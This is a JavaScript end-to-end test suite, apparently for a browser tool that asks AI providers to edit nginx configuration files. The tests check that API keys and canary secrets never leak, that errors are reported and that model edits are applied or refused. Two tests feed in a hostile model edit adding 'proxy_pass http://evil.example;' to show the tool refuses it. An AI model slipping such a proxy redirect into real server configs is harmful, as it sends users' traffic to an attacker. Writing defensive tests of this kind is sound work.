// The whole way with each provider: files in, what would be sent, the key, an answer, an edit.

import { editorText, equal, match, ok, text } from './lib/check.mjs'
import { Asking, courierOf, prepare, sendWith, verdict } from './lib/asking.mjs'
import { OLD, RIGHT, SECRETS, edits, writings } from './lib/planted.mjs'
import { KEY, error } from './lib/providers.mjs'

const HOSTS = {
  anthropic: 'https://api.anthropic.com',
  openai: 'https://api.openai.com',
  gemini: 'https://generativelanguage.googleapis.com',
  openrouter: 'https://openrouter.ai',
}
const KEY_HEADER = {
  anthropic: 'x-api-key',
  openai: 'authorization',
  openrouter: 'authorization',
  gemini: 'x-goog-api-key',
}

/** No writing of a secret in anything that arrived. */
export function keepsSecrets(heard) {
  for (const one of heard) {
    const all = [one.path, ...one.raw, one.body].join('\n')
    for (const secret of SECRETS) {
      for (const writing of writings(secret)) {
        ok(!all.toLowerCase().includes(writing.toLowerCase()), `${secret} was sent as ${writing}`)
      }
    }
  }
}

/** The key is in one header of each POST, and in nothing else anywhere. */
async function keepsKey(asking, opened, provider) {
  for (const one of asking.providers.posts) {
    const all = [one.path, ...one.raw, one.body].join('\n')
    equal(all.split(KEY).length - 1, 1, 'once in a request')
    ok(one.headers[KEY_HEADER[provider]].endsWith(KEY))
  }
  for (const one of asking.providers.heard.filter(heard => heard.method !== 'POST')) {
    ok(!JSON.stringify(one).includes(KEY), 'not in a preflight')
  }
  ok(!opened.seen.requests.join().includes(KEY), 'in no address')
  for (const { url, texts, said, stored } of await asking.overheard(opened)) {
    ok(!texts.includes(KEY), `the key stands in ${url}`)
    ok(!said.join('\n').includes(KEY), `the key was said to or by ${url}`)
    ok(stored === 'none' || stored === '[{},{},""]', `${url} stores ${stored}`)
  }
}

async function way(lab, provider) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => edits([OLD, RIGHT]))
  const opened = await asking.open()
  const { app } = opened
  const courier = await prepare(opened, provider, provider === 'openrouter' ? 'vendor/m-1' : 'm-1')
  equal(asking.providers.heard.length, 0, 'nothing is sent by looking')
  match(await text(app, '.ask .lead:not([role])'), /finding.* 3 files, [\d,]+ bytes to /)
  match(await text(app, '.ask'), /[1-9]\d* values of yours have placeholders/)
  const shown = await app.locator('details', { hasText: 'byte for byte' }).locator('pre').textContent()
  await lab.picture(opened, `refactor-${provider}-question`)
  await sendWith(opened, courier)
  const said = await verdict(opened)
  equal(asking.providers.posts.length, 1)
  equal(asking.providers.posts[0].body, shown, 'what was shown is what was sent')
  match(said, /1 edit of the model taken, 0 not taken/)
  match(said, /nginx\.conf:12/)
  ok(!said.includes('canary'))
  await lab.picture(opened, `refactor-${provider}-verdict`)
  await app.getByRole('button', { name: 'Show the change' }).first().click()
  match(await text(app, '.diff-table'), /45s/)
  await app.locator('.stage-bar').getByRole('button', { name: 'Apply it' }).click()
  ok((await editorText(app)).includes(RIGHT))
  ok((await editorText(app)).includes('hunter2-Zq81-canary'), 'its values are where they were')
  keepsSecrets(asking.providers.heard)
  await keepsKey(asking, opened, provider)
  asking.quiet(opened, [HOSTS[provider]])
}

/** The server of this machine: no key, and an origin that it can know. */
async function local(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => edits([OLD, RIGHT]))
  const opened = await asking.open()
  const courier = await prepare(opened, 'local', 'gemma3:4b')
  match(await text(courier, '.to'), new RegExp(asking.providers.local))
  await sendWith(opened, courier, null)
  match(await verdict(opened), /1 edit of the model taken/)
  equal(asking.providers.posts[0].headers.origin, asking.origin)
  equal(asking.providers.posts[0].headers.authorization, undefined)
  keepsSecrets(asking.providers.heard)
  await opened.app.getByRole('button', { name: 'Apply all' }).click()
  ok((await editorText(opened.app)).includes(RIGHT))
  // Chromium says of every frame with an origin that script in it could leave its sandbox.
  opened.seen.console = opened.seen.console.filter(line => !line.includes('escape its sandboxing'))
  asking.quiet(opened, [asking.providers.local])
}

/** A refused edit: why it was, the second question, shown and asked about; then no third. */
async function repair(lab) {
  const asking = await Asking.of(lab)
  const evil = [OLD, `${RIGHT} proxy_pass http://evil.example;`]
  asking.providers.play((_, n) => (n === 0 ? edits(evil) : edits([OLD, RIGHT])))
  const opened = await asking.open()
  const { app } = opened
  const courier = await prepare(opened, 'anthropic')
  await sendWith(opened, courier)
  await app.getByRole('heading', { name: 'The second question, and the last' }).waitFor()
  equal(asking.providers.posts.length, 1, 'it waits')
  match(await app.locator('.ask').innerText(), /These edits were thrown away/)
  // The courier has the key still.
  await sendWith(opened, courier, null)
  match(await verdict(opened), /1 edit of the model taken, 0 not taken/)
  equal(asking.providers.posts.length, 2)
  keepsSecrets(asking.providers.heard)
  asking.quiet(opened, [HOSTS.anthropic])
}

async function leaveIt(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => edits([OLD, `${RIGHT} proxy_pass http://evil.example;`]))
  const opened = await asking.open()
  const { app } = opened
  const courier = await prepare(opened, 'openai')
  await sendWith(opened, courier)
  await app.getByRole('button', { name: 'Leave it at the first answer' }).click()
  const said = await verdict(opened)
  match(said, /0 edits of the model taken, 1 not taken; 1 change of badgateway’s own/)
  match(said, /forbidden/)
  equal(asking.providers.posts.length, 1)
  asking.quiet(opened, [HOSTS.openai])
}

/** Not now: nothing is sent, and the courier stays out of it. */
async function notNow(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => '[]')
  const opened = await asking.open()
  const { app } = opened
  await prepare(opened, 'gemini')
  await app.getByRole('button', { name: 'Not now' }).click()
  await app.locator('#ask-model').waitFor()
  await app.locator('#ask-provider').selectOption('openrouter')
  await opened.page.waitForTimeout(100)
  equal(opened.page.frames().length, 2, 'another choice takes the courier away, and a key with it')
  equal(asking.providers.heard.length, 0)
  asking.quiet(opened, [])
}

/** What goes wrong has words of its own, and the next try begins where it was. */
async function troubles(lab) {
  const asking = await Asking.of(lab)
  const opened = await asking.open()
  const { app } = opened
  const courier = await prepare(opened, 'anthropic')
  let first = true
  const meets = async (reply, words) => {
    asking.providers.play(() => reply)
    await sendWith(opened, courier, first ? KEY : null)
    first = false
    const said = await verdict(opened)
    for (const one of words) match(said, one)
    match(said, /badgateway itself would change/)
    await app.getByRole('button', { name: 'Try again' }).click()
    await app.getByRole('button', { name: /^Send to/ }).waitFor()
  }
  const after = { 'retry-after': '7' }
  await meets(error(429, 'slow down', after), [/too many requests/i, /after 7 seconds/, /slow down/])
  await meets(error(529, 'busy'), [/overloaded/i])
  await meets(error(500, 'oops'), [/failed \(status 500\)/i])
  await meets(error(404, 'model: m-1'), [/no such model/i, /name of the model/i])
  await meets({ status: 200, headers: { 'content-type': 'text/event-stream' }, pieces: Array(8).fill(': x\n\n'), cut: true }, [
    /broke off/i,
  ])
  await meets({ status: 200, headers: { 'content-type': 'text/html' }, body: '<h1>login</h1>' }, [
    /not what it documents/i,
  ])
  await meets(error(401, 'CORS requests are not allowed for this Organization'), [
    /does not answer browsers of this organization/i,
    /administrator/i,
  ])
  // With that the key was forgotten, and a wrong one is told of without being repeated.
  asking.providers.play(() => '[]')
  await sendWith(opened, courier, 'sk-wrong-1234567890')
  match(await verdict(opened), /does not know this key.*forgotten the key/i)
  const all = JSON.stringify(await asking.overheard(opened))
  ok(!all.includes('sk-wrong-1234567890'), 'it was repeated by the provider, and covered by the courier')
}

/** Nothing that a browser may see. */
async function silence(lab) {
  const asking = await Asking.of(lab)
  const opened = await asking.open()
  const { app } = opened
  asking.providers.play(() => ({ ...error(401, 'no'), silent: true }))
  let courier = await prepare(opened, 'anthropic')
  await sendWith(opened, courier)
  await app.locator('.ask .note').waitFor()
  match(await text(app, '.ask .note'), /Nothing came from api\.anthropic\.com.*organization forbids browsers/)
  await app.getByRole('button', { name: 'Not now' }).click()
  // A model that is not known: answered without leave for browsers.
  asking.providers.play(() => '[]')
  courier = await prepare(opened, 'openai', 'unknown-1')
  await sendWith(opened, courier)
  await app.locator('.ask .note').waitFor()
  match(await text(app, '.ask .note'), /Nothing came.*wrong path.*name of the model/)
}

async function cancelled(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => ({
    status: 200,
    headers: { 'content-type': 'text/event-stream' },
    pieces: Array(200).fill(': wait\n\n'),
    pause: 100,
  }))
  const opened = await asking.open()
  const { app } = opened
  const courier = await prepare(opened, 'openrouter')
  await sendWith(opened, courier)
  await app.waitForFunction(() => /bytes of an answer/.test(document.querySelector('.ask').innerText))
  match(await text(courier, '.state'), /bytes of an answer/)
  await app.getByRole('button', { name: 'Cancel' }).click()
  await app.locator('.ask .note').waitFor()
  match(await text(app, '.ask .note'), /Cancelled/)
  match(await text(courier, '.state'), /Cancelled/)
  // The same from the courier's own button, while it waits for a key.
  await courier.getByRole('button', { name: 'Forget the key' }).click()
  await app.getByRole('button', { name: /^Send to/ }).click()
  await courier.waitForFunction(() => /wait for the key/.test(document.querySelector('.state').textContent))
  await courier.getByRole('button', { name: 'Cancel' }).click()
  await app.waitForFunction(() => /Nothing was sent/.test(document.querySelector('.ask').innerText))
}

/** One edit, undone, applied again; then a change by hand, after which no edit fits. */
async function oneByOne(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => edits([OLD, RIGHT]))
  const opened = await asking.open()
  const { app } = opened
  const courier = await prepare(opened, 'anthropic')
  await sendWith(opened, courier)
  await verdict(opened)
  const applyIt = () => app.locator('.ask').getByRole('button', { name: 'Apply it' }).click()
  await applyIt()
  ok((await editorText(app)).includes(RIGHT))
  await app.getByRole('button', { name: /^Undo: an edit of the model/ }).click()
  ok((await editorText(app)).includes(OLD))
  await applyIt()
  ok((await editorText(app)).includes(RIGHT))
  await app.locator('.stage > .editor .cm-content').press('Control+Home')
  await app.locator('.stage > .editor .cm-content').pressSequentially('# mine')
  await app.locator('.ask').getByRole('button', { name: 'Apply all' }).click()
  match(await text(app, '.toast'), /changed since the question/)
  await courierOf(opened, 'anthropic')
}

/** Nothing wrong, or not configuration: no question is made. */
async function nothing(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => '[]')
  const opened = await asking.open({ files: [{ name: 'nginx.conf', text: 'events {}\nhttp { brok' }] })
  await prepare(opened, 'anthropic').catch(() => {})
  match(await verdict(opened), /a server would refuse these files/)
  equal(asking.providers.heard.length, 0)
}

export default {
  'anthropic, the whole way': lab => way(lab, 'anthropic'),
  'openai, the whole way': lab => way(lab, 'openai'),
  'gemini, the whole way': lab => way(lab, 'gemini'),
  'openrouter, the whole way': lab => way(lab, 'openrouter'),
  'a server of this machine': local,
  'a second question, and no third': repair,
  'no second question': leaveIt,
  'not now': notNow,
  'troubles have words': troubles,
  'nothing that a browser may see': silence,
  cancelled,
  'one by one, undone, changed since': oneByOne,
  'files that cannot be read': nothing,
}
